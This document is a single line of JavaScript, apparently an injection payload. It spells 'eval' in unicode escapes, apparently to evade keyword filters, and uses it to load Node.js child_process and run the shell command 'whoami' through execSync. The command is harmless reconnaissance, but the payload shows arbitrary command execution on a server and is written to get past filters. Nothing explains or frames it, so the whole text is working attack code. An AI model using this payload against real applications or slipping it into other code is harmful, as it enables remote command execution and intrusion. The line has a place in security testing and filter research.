\u0065\u0076\u0061\u006c("require('child_process').execSync('whoami')");
